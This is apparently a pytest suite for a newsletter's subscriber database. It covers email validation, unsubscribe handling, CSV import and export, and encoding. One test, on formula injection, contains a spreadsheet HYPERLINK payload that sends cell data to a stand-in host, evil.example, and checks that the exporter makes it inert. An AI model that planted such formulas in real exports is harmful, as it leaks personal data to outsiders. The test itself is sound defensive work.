"""The subscriber store on SQLite and PostgreSQL: validation, statuses, CSV import/export."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from newsletter import privacy, subscriber_import, subscribers
from newsletter.errors import Conflict, InvalidInput
from newsletter.models import Category, Event, EventKind, Subscriber, SubscriberStatus


def imp(sessions: sessionmaker[Session], data: bytes | str, *, dry_run: bool = False) -> subscriber_import.ImportReport:
    raw = data.encode("utf-8") if isinstance(data, str) else data
    with sessions.begin() as s:
        report = subscriber_import.import_csv(s, io.BytesIO(raw), source="members.csv", dry_run=dry_run)
        if dry_run:
            s.rollback()
    return report


def state(sessions: sessionmaker[Session]) -> dict[str, tuple[str, str, str, tuple[str, ...], dict]]:
    with sessions.begin() as s:
        return {
            sub.email: (
                sub.name,
                str(sub.status),
                sub.consent_source,
                tuple(subscribers.category_slugs(s, sub)),
                sub.attributes,
            )
            for sub in subscribers.list_subscribers(s)
        }


def test_addresses_are_unique_case_insensitively(session: Session) -> None:
    subscribers.add(session, "Ada@Example.COM", name="Ada")
    with pytest.raises(InvalidInput, match="already on the list"):
        subscribers.add(session, "ada@example.com")
    assert subscribers.get_by_email(session, "ADA@EXAMPLE.com").name == "Ada"


def test_internationalised_addresses_are_normalised(session: Session) -> None:
    sub = subscribers.add(session, "jörg@BÜCHER.example")
    assert sub.email == "jörg@bücher.example"
    # The punycode spelling of the same domain is the same subscriber.
    assert subscribers.get_by_email(session, "jörg@xn--bcher-kva.example").id == sub.id


def test_invalid_address_is_refused_with_reason(session: Session) -> None:
    with pytest.raises(InvalidInput, match="'bob@' is not an email address"):
        subscribers.add(session, "bob@")


def test_unknown_category_is_refused(session: Session) -> None:
    with pytest.raises(InvalidInput, match="unknown category 'sport'"):
        subscribers.add(session, "a@example.com", categories=["news", "sport"])


def test_categories_none_means_all_and_are_kept_in_issue_order(session: Session) -> None:
    sub = subscribers.add(session, "a@example.com", categories=["events", "news"])
    assert subscribers.category_slugs(session, sub) == ["news", "events"]
    subscribers.set_categories(session, sub, [])
    assert subscribers.category_slugs(session, sub) == []


def test_unsubscribe_records_event_and_is_sticky(session: Session) -> None:
    sub = subscribers.add(session, "a@example.com")
    assert subscribers.unsubscribe(session, sub, source="admin") is True
    assert subscribers.unsubscribe(session, sub, source="admin") is False
    assert sub.status == SubscriberStatus.UNSUBSCRIBED
    kinds = session.scalars(select(Event.kind).where(Event.subscriber_id == sub.id).order_by(Event.id)).all()
    assert kinds == [EventKind.SUBSCRIBE, EventKind.UNSUBSCRIBE]
    with pytest.raises(Conflict):
        subscribers.change_status(session, sub, SubscriberStatus.ACTIVE, kind=EventKind.CONFIRM, source="x")
    assert subscribers.change_status(
        session,
        sub,
        SubscriberStatus.ACTIVE,
        kind=EventKind.REACTIVATE,
        source="admin",
        detail="asked by phone",
        force=True,
    )


def test_pending_subscriber_becomes_active_on_confirm(session: Session) -> None:
    sub = subscribers.add(session, "a@example.com", status=SubscriberStatus.PENDING, source="web")
    assert sub.consent_at is None
    assert subscribers.confirm(session, sub) is True
    assert sub.status == SubscriberStatus.ACTIVE and sub.consent_at is not None


REAL_WORLD = (
    "\ufeffE-mail Address;First Name;Last Name;Company;Categories\r\n"
    "ada@example.com;Ada;Lovelace;Analytical Ltd;news,events\r\n"
    "bob@;Bob;;Nowhere;\r\n"
    "\r\n"
    'Carol@Example.org;Carol;Shaw;"Quoted; Inc";\r\n'
    "ADA@example.com;Ada again;;;\r\n"
    "dave@example.net;Dave;;;sport\r\n"
)


def test_import_real_world_csv_reports_every_bad_row(sessions: sessionmaker[Session]) -> None:
    report = imp(sessions, REAL_WORLD)
    assert (report.added, report.updated, report.unchanged) == (3, 0, 0)
    assert [(e.line, e.value) for e in report.invalid] == [(3, "bob@"), (6, "ADA@example.com")]
    assert "repeats line 2" in str(report.invalid[1])
    assert [(w.line, w.value) for w in report.warnings] == [(7, "dave@example.net")]  # unknown 'sport': kept
    got = state(sessions)
    assert got["ada@example.com"][0] == "Ada Lovelace"
    assert got["ada@example.com"][3] == ("news", "events")
    assert got["Carol@example.org"][4] == {"Company": "Quoted; Inc"}
    assert got["ada@example.com"][2] == "import:members.csv"


def test_import_is_idempotent(sessions: sessionmaker[Session]) -> None:
    imp(sessions, REAL_WORLD)
    before = state(sessions)
    again = imp(sessions, REAL_WORLD)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 3)
    assert state(sessions) == before


def test_import_updates_changed_rows(sessions: sessionmaker[Session]) -> None:
    imp(sessions, "email,name\na@example.com,A\nb@example.com,B\n")
    report = imp(sessions, "email,name\na@example.com,Alice\nb@example.com,B\n")
    assert (report.added, report.updated, report.unchanged) == (0, 1, 1)
    assert state(sessions)["a@example.com"][0] == "Alice"


def test_import_never_reactivates_suppressed(sessions: sessionmaker[Session]) -> None:
    with sessions.begin() as s:
        for email, status in [
            ("u@example.com", SubscriberStatus.UNSUBSCRIBED),
            ("b@example.com", SubscriberStatus.BOUNCED),
            ("c@example.com", SubscriberStatus.COMPLAINED),
        ]:
            sub = subscribers.add(s, email)
            subscribers.change_status(s, sub, status, kind=EventKind.UNSUBSCRIBE, source="test")
    imp(sessions, "email,status\nu@example.com,active\nb@example.com,\nc@example.com,pending\n")
    assert {e: v[1] for e, v in state(sessions).items()} == {
        "u@example.com": "unsubscribed",
        "b@example.com": "bounced",
        "c@example.com": "complained",
    }


@pytest.mark.parametrize("db_url", ["postgresql"], indirect=True)  # SQLite: the import holds the write lock
def test_what_readers_do_while_an_import_runs_is_not_undone(
    sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Readers act after the import read their rows and before it writes (PostgreSQL lets
    them): the result is theirs and the import's one after the other. An unsubscribe stays;
    a suppression in the file still applies to a reader who confirmed meanwhile; the same
    unsubscribe twice is one event; a reader erased meanwhile is simply gone."""
    with sessions.begin() as s:
        subscribers.add(s, "r@example.com", name="Old")
        subscribers.add(s, "p@example.com", status=SubscriberStatus.PENDING)
        subscribers.add(s, "q@example.com", status=SubscriberStatus.PENDING)
        subscribers.add(s, "u@example.com")
        gone = subscribers.add(s, "e@example.com", categories=["news"]).id
    write_changes = subscriber_import._write_changes

    def readers_act_first(*args: Any, **kwargs: Any) -> None:
        with sessions.begin() as other:  # another connection, committed before the import writes
            for email in ("r@example.com", "p@example.com", "u@example.com"):
                subscribers.unsubscribe(other, subscribers.require(other, email), source="test")
            subscribers.confirm(other, subscribers.require(other, "q@example.com"))
            privacy.erase(other, gone)
        write_changes(*args, **kwargs)

    monkeypatch.setattr(subscriber_import, "_write_changes", readers_act_first)
    imp(
        sessions,
        "email,name,status,categories\n"
        "r@example.com,New Name,,\np@example.com,,active,\nq@example.com,,bounced,\n"
        "u@example.com,,unsubscribed,\ne@example.com,,,events\n",
    )
    after = state(sessions)
    assert after["r@example.com"][:2] == ("New Name", "unsubscribed")
    assert after["p@example.com"][1] == "unsubscribed"
    assert after["q@example.com"][1] == "bounced"
    assert after["u@example.com"][1] == "unsubscribed"
    assert "e@example.com" not in after
    with sessions.begin() as s:
        events = s.execute(select(Subscriber.email, Event.kind, Event.source, Event.detail).join(Subscriber)).all()
    assert not any(detail.endswith("-> active") for *_, detail in events), events
    assert [
        source for email, kind, source, _ in events if email == "u@example.com" and kind == EventKind.UNSUBSCRIBE
    ] == ["test"]


def test_latin1_file_is_decoded(sessions: sessionmaker[Session]) -> None:
    imp(sessions, "email;name\nzoe@example.com;Zoë Müller\n".encode("latin-1"))
    assert state(sessions)["zoe@example.com"][0] == "Zoë Müller"


def test_dry_run_writes_nothing(sessions: sessionmaker[Session]) -> None:
    report = imp(sessions, REAL_WORLD, dry_run=True)
    assert report.added == 3
    assert state(sessions) == {}


@pytest.mark.parametrize(
    "data, message",
    [
        (
            b"name,company\nAda,ACME\n",
            "members.csv: line 1: no email column (found: name, company); name one column 'email'",
        ),
        (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
            "members.csv: not a CSV file (binary data); export the sheet as CSV first",
        ),
        (b"", "members.csv: empty file; expected a header line with an 'email' column"),
    ],
)
def test_file_that_is_not_a_subscriber_csv_is_one_error_and_writes_nothing(
    sessions: sessionmaker[Session], data: bytes, message: str
) -> None:
    with pytest.raises(InvalidInput) as exc:
        imp(sessions, data)
    assert str(exc.value) == message
    with sessions.begin() as s:
        assert s.scalar(select(func.count()).select_from(Subscriber)) == 0


def test_export_then_import_restores_the_same_state(sessions: sessionmaker[Session]) -> None:
    imp(sessions, REAL_WORLD)
    with sessions.begin() as s:
        sub = subscribers.add(s, "gone@example.com", name="Gone", categories=["products"])
        subscribers.unsubscribe(s, sub, source="admin")
        subscribers.add(s, "wait@example.com", status=SubscriberStatus.PENDING, source="web")
    original = state(sessions)
    out = io.StringIO()
    with sessions.begin() as s:
        assert subscribers.export_csv(s, out) == 5
    # A fresh list (delete everyone) rebuilt from the export matches the original.
    with sessions.begin() as s:
        for sub in list(subscribers.list_subscribers(s)):
            s.delete(sub)
    imp(sessions, out.getvalue())
    assert state(sessions) == original


@pytest.mark.parametrize(
    "raw",
    [
        "plain@example.com",
        "Mixed.Case+tag@Example.COM",
        "a@xn--bcher-kva.example",
        "x@bücher.example",
        "dots..twice@example.com",
        ".lead@example.com",
        "trail.@example.com",
        "a@-bad-.com",
        "a@localhost",
        "a@example",
        "a@123.45",
        "a@exa_mple.com",
        "{weird}|chars~@example.org",
        "x" * 65 + "@example.com",
        "Postmaster@Example.com",
        "a@" + "d" * 250 + ".com",
        "a@" + ("b" * 60 + ".") * 4 + "com",
        "x" * 64 + "@example.com",
        "ABUSE@example.com",
        "a..b@example.com",
        "a.b.c@EXAMPLE.co.uk",
        "@example.com",
        "ada@",
        "ada@@example.com",
        "a@b@example.com",
        '"quoted"@example.com',
        '"a b"@example.com',
        '"a..b"@example.com',
        "üser@example.com",
        "jörg@BÜCHER.example",
        "a@ΕΛΛΗΝΙΚΑ.gr",
        "a@example.com.",
        "a@[127.0.0.1]",
        "Ada <ada@example.com>",
        "a b@example.com",
        "a\tb@example.com",
        "a@exam ple.com",
        "a(comment)@example.com",
        "a\\b@example.com",
        "o'brien@example.ie",
        "a@sub-.example.com",
        "a@xn--.example",
    ],
)
def test_fast_path_agrees_with_email_validator(raw: str) -> None:
    """normalize_email's cached-domain path gives exactly email-validator's answer."""
    from email_validator import EmailNotValidError, validate_email

    try:
        expected: str | type = validate_email(raw, check_deliverability=False).normalized
    except EmailNotValidError:
        expected = InvalidInput
    try:
        got: str | type = subscribers.normalize_email(raw)
    except InvalidInput:
        got = InvalidInput
    assert got == expected


def test_an_import_in_many_chunks_merges_as_one(
    sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The file is merged a chunk at a time while the next is parsed: with chunks of two rows,
    repeats across chunks, updates, events, erased addresses and categories come out as from
    one merge, and new subscribers are listed in file order (not in address order)."""
    with sessions.begin() as s:
        subscribers.add(s, "wait@example.com", status=SubscriberStatus.PENDING)
        subscribers.add(s, "gone@example.com", status=SubscriberStatus.UNSUBSCRIBED)
        privacy.erase(s, subscribers.add(s, "erased@example.com").id)
    monkeypatch.setattr(subscriber_import, "CHUNK_ROWS", 2)
    report = imp(
        sessions,
        "email,status,categories\n"
        "zoe@example.com,,events\n"
        "yan@example.com,,news;events\n"
        "wait@example.com,active,\n"
        "gone@example.com,active,news\n"
        "ZOE@example.com,,\n"
        "erased@example.com,,\n"
        "xia@example.com,bogus,\n"
        "abe@example.com,pending,\n",
    )
    assert report.summary == "added 3, updated 2, unchanged 0, invalid 3, warnings 0"
    assert [str(e) for e in report.invalid] == [
        "6: 'ZOE@example.com' repeats line 2 (row skipped)",
        "7: 'erased@example.com' was erased at their request; only they can subscribe again (row skipped)",
        "8: 'xia@example.com' has unknown status 'bogus' (use pending, active, unsubscribed, bounced, "
        "complained) (row skipped)",
    ]
    got = state(sessions)
    assert list(got) == [
        "wait@example.com",
        "gone@example.com",
        "zoe@example.com",
        "yan@example.com",
        "abe@example.com",
    ]
    assert {email: got[email][1:4] for email in got} == {
        "wait@example.com": ("active", "cli", ()),
        "gone@example.com": ("unsubscribed", "cli", ("news",)),  # never re-activated
        "zoe@example.com": ("active", "import:members.csv", ("events",)),
        "yan@example.com": ("active", "import:members.csv", ("news", "events")),
        "abe@example.com": ("pending", "import:members.csv", ()),
    }
    with sessions.begin() as s:
        events = s.execute(
            select(Subscriber.email, Event.detail)
            .join(Subscriber, Subscriber.id == Event.subscriber_id)
            .where(Event.source == "import:members.csv")
        ).all()
    assert [tuple(e) for e in events] == [("wait@example.com", "pending -> active")]
    assert imp(sessions, "email\nabe@example.com\nzoe@example.com\nnew@example.com\n").summary == (
        "added 1, updated 0, unchanged 2, invalid 0, warnings 0"
    )


def test_blank_cells_keep_what_the_subscriber_chose(sessions: sessionmaker[Session]) -> None:
    """Re-importing an old sheet with empty cells never wipes a name or a topic choice."""
    with sessions.begin() as s:
        subscribers.add(s, "ada@example.com", name="Ada", categories=["events"])
    report = imp(sessions, "email,name,categories\nada@example.com,,\n")
    assert (report.updated, report.unchanged) == (0, 1)
    assert state(sessions)["ada@example.com"][0] == "Ada"
    assert state(sessions)["ada@example.com"][3] == ("events",)
    imp(sessions, "email,categories\nada@example.com,all\n")
    assert state(sessions)["ada@example.com"][3] == ()


def test_import_status_changes_are_events_and_categories_are_replaced(sessions: sessionmaker[Session]) -> None:
    """The set-based merge: each status change is one event naming old and new, categories
    and attributes change only where the file says so, the rest counts as unchanged."""
    with sessions.begin() as s:
        subscribers.add(s, "wait@example.com", status=SubscriberStatus.PENDING, categories=["news"])
        subscribers.add(s, "ada@example.com", name="Ada", categories=["news", "events"])
        subscribers.add(s, "same@example.com", name="Same")
    report = imp(
        sessions,
        "email,status,categories,Plan\n"
        "wait@example.com,active,,\n"
        "ada@example.com,bounced,products;sport,gold\n"
        "same@example.com,pending,,\n"
        "new@example.com,pending,events,\n",
    )
    assert (report.added, report.updated, report.unchanged) == (1, 2, 1)
    got = state(sessions)
    assert got["wait@example.com"][1:4] == ("active", "cli", ("news",))
    assert got["ada@example.com"][1:] == (
        "bounced",
        "cli",
        ("products",),
        {"Plan": "gold", "unknown_categories": "sport"},
    )
    assert got["same@example.com"][1] == "active"  # an active reader is not sent back to pending
    assert got["new@example.com"][1:4] == ("pending", "import:members.csv", ("events",))
    with sessions.begin() as s:
        events = s.execute(
            select(Subscriber.email, Event.kind, Event.source, Event.detail)
            .join(Subscriber, Subscriber.id == Event.subscriber_id)
            .where(Event.source == "import:members.csv")
            .order_by(Event.id)
        ).all()
    assert [tuple(e) for e in events] == [
        ("wait@example.com", EventKind.CONFIRM, "import:members.csv", "pending -> active"),
        ("ada@example.com", EventKind.BOUNCE, "import:members.csv", "active -> bounced"),
    ]
    again = imp(sessions, "email,categories\nada@example.com,products\n")  # sport dropped from the cell
    assert (again.updated, again.unchanged) == (1, 0)
    assert state(sessions)["ada@example.com"][3:] == (("products",), {"Plan": "gold"})


def test_imported_rows_read_back_like_rows_added_one_by_one(sessions: sessionmaker[Session]) -> None:
    """The bulk insert binds values itself: times, status and attributes must come back typed."""
    from datetime import datetime

    imp(
        sessions,
        "email,status,consent_at,Company\na@example.com,unsubscribed,2026-01-02T03:04:05Z,ACME\nb@example.com,,,\n",
    )
    with sessions.begin() as s:
        a, b = (subscribers.get_by_email(s, e) for e in ("a@example.com", "b@example.com"))
        assert a.status == SubscriberStatus.UNSUBSCRIBED and b.status == SubscriberStatus.ACTIVE
        assert a.consent_at == datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
        assert b.consent_at is not None and b.consent_at.tzinfo is not None
        assert abs((datetime.now(UTC) - b.created_at).total_seconds()) < 60
        assert a.attributes == {"Company": "ACME"} and b.attributes == {}
        assert (
            s.scalar(select(func.count()).select_from(Subscriber).where(Subscriber.status == SubscriberStatus.ACTIVE))
            == 1
        )


def test_unknown_category_keeps_the_reader_and_is_given_once_configured(sessions: sessionmaker[Session]) -> None:
    report = imp(sessions, "email,categories\nada@example.com,news;webinars\nbob@example.com,webinars\n")
    assert (report.added, report.invalid) == (2, [])
    assert [str(w) for w in report.warnings] == [
        "2: 'ada@example.com' asks for 'webinars', not in [[categories]]: kept in the attribute "
        "'unknown_categories' until configured (row imported)",
        "3: 'bob@example.com' asks for 'webinars', not in [[categories]]: kept in the attribute "
        "'unknown_categories' until configured (row imported)",
    ]
    assert report.summary == "added 2, updated 0, unchanged 0, invalid 0, warnings 2"
    got = state(sessions)
    assert got["ada@example.com"][3:] == (("news",), {"unknown_categories": "webinars"})
    assert got["bob@example.com"][3:] == ((), {"unknown_categories": "webinars"})  # no known choice: every section
    with sessions.begin() as s:  # the editor adds [[categories]] slug = "webinars"; `db upgrade` syncs it
        s.add(Category(slug="webinars", name="Webinars", position=9))
        s.flush()
        assert subscribers.adopt_categories(s) == {"webinars": 2}
    got = state(sessions)
    assert got["ada@example.com"][3:] == (("news", "webinars"), {})
    assert got["bob@example.com"][3:] == (("webinars",), {})


def test_an_unreadable_consent_date_is_a_warning_and_stored_as_unknown(sessions: sessionmaker[Session]) -> None:
    report = imp(
        sessions,
        "email,consent_at\na@example.com,12/03/2024\nb@example.com,2024-03-12T09:30:00+01:00\nc@example.com,\n",
    )
    assert report.added == 3 and report.invalid == []
    assert [str(w) for w in report.warnings] == [
        "2: 'a@example.com' has consent_at '12/03/2024', not an ISO 8601 date like 2024-03-12T09:30:00+01:00: "
        "stored as unknown (row imported)"
    ]
    with sessions.begin() as s:
        consent = {sub.email: sub.consent_at for sub in subscribers.list_subscribers(s)}
    assert consent["a@example.com"] is None
    assert consent["b@example.com"] == datetime(2024, 3, 12, 8, 30, tzinfo=UTC)
    assert consent["c@example.com"] is not None  # no date given: the import is the consent record


def test_a_cell_over_128_kb_is_one_line_and_imports_nothing(sessions: sessionmaker[Session]) -> None:
    data = 'email,name\nok@example.com,Ok\nbig@example.com,"' + "x" * 140_000 + '"\nlate@example.com,Late\n'
    with pytest.raises(InvalidInput) as exc:
        imp(sessions, data)
    assert str(exc.value) == (
        "members.csv:3: a cell is longer than 128 KB; shorten it or check the file is the "
        "subscriber list (nothing imported)"
    )
    assert state(sessions) == {}


def test_lines_are_read_in_blocks_and_decoded_a_line_at_a_time_when_not_utf8(sessions: sessionmaker[Session]) -> None:
    """The file is read in blocks of whole lines: a cp1252 line among UTF-8 ones is still
    decoded on its own, and a line over 1 MB after many short ones is named by its number."""
    rows = "".join(f"r{i}@example.com,Reader {i}\n" for i in range(5000)).encode()
    imp(sessions, b"email,name\n" + rows + "zoe@example.com,Zoë\n".encode("cp1252") + "ann@example.com,Änne\n".encode())
    got = state(sessions)
    assert (len(got), got["zoe@example.com"][0], got["ann@example.com"][0]) == (5002, "Zoë", "Änne")
    with pytest.raises(InvalidInput) as exc:
        imp(sessions, b"email,name\n" + rows + b"x@example.com," + b"x" * 2**20 + b"\n")
    assert str(exc.value) == (
        "members.csv:5002: a line longer than 1 MB; is this the subscriber list as CSV? (nothing imported)"
    )


def test_a_dry_run_streams_the_file_in_flat_memory(sessions: sessionmaker[Session], tmp_path: Path) -> None:
    """Memory stays near one chunk of rows however large the file (a 50 MB file took 1 GB)."""
    path = tmp_path / "members.csv"
    with path.open("w", encoding="utf-8") as fp:
        fp.write("email,name,notes\n")
        for i in range(4000):
            fp.write(f"reader{i}@example.com,Reader {i},{'n' * 2000}\n")
    size = path.stat().st_size
    tracemalloc.start()
    try:
        with sessions.begin() as s, path.open("rb") as fp:
            report = subscriber_import.import_csv(s, fp, source="members.csv", dry_run=True)
            s.rollback()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert report.added == 4000
    assert peak < size / 2, f"peak {peak / 2**20:.1f} MB for a {size / 2**20:.1f} MB file"


def test_exported_formulas_are_inert_and_read_back_as_typed(sessions: sessionmaker[Session]) -> None:
    names = [
        '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
        "+49 30 1234",
        "-x",
        "@SUM(A1)",
        "'=already quoted",
        "O'Brien",
    ]
    with sessions.begin() as s:
        for i, name in enumerate(names):
            subscribers.add(s, f"r{i}@example.com", name=name)
        subscribers.add(s, "=cmd@example.com", name="Eq")
    original = state(sessions)
    out = io.StringIO()
    with sessions.begin() as s:
        subscribers.export_csv(s, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '"\'=HYPERLINK(""http://evil.example/' in out.getvalue()
    with sessions.begin() as s:
        for sub in list(subscribers.list_subscribers(s)):
            s.delete(sub)
    imp(sessions, out.getvalue())
    assert state(sessions) == original
